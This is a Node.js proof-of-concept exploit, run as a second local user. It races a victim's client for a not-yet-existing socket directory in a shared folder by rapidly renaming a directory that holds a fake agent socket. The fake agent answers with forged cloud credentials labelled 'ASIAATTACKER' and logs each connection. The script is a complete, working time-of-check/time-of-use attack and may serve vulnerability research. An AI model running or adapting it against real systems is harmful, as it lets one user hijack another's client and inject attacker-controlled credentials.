// Run as a second local user: races a victim's client for a socket directory that does
// not exist yet, in a shared folder. A directory with a fake agent in it is renamed in and
// out of the victim's directory name as fast as possible, so that a client that checked
// "nothing there" connects to the fake agent if it connects by path afterwards. Each
// connection it receives is reported as one JSON line.
//   node flip-directory.mjs TARGET_DIRECTORY
import { chmodSync, mkdirSync, renameSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { setImmediate } from 'node:timers';

const [target] = process.argv.slice(2);
const stage = `${target}.stage`;
rmSync(stage, { recursive: true, force: true });
mkdirSync(stage, { mode: 0o755 });

const credentials = JSON.stringify({ AccessKeyId: 'ASIAATTACKER', SecretAccessKey: 'x', SessionToken: 'x', Expiration: '2099-01-01T00:00:00Z' });
const server = createServer((connection) => {
  console.log(JSON.stringify({ event: 'connection' }));
  connection.once('data', () => {
    connection.end(`HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${credentials.length}\r\nConnection: close\r\n\r\n${credentials}`);
  });
  connection.on('error', () => undefined);
});

server.listen(`${stage}/agent.sock`, () => {
  chmodSync(`${stage}/agent.sock`, 0o777);
  console.log(JSON.stringify({ event: 'listening' }));
  const flip = () => {
    for (let i = 0; i < 500; i += 1) {
      try {
        renameSync(stage, target);
        renameSync(target, stage);
      } catch {
        // The victim may hold the name for a moment; try again.
      }
    }
    setImmediate(flip);
  };
  flip();
});
process.on('SIGTERM', () => process.exit(0));
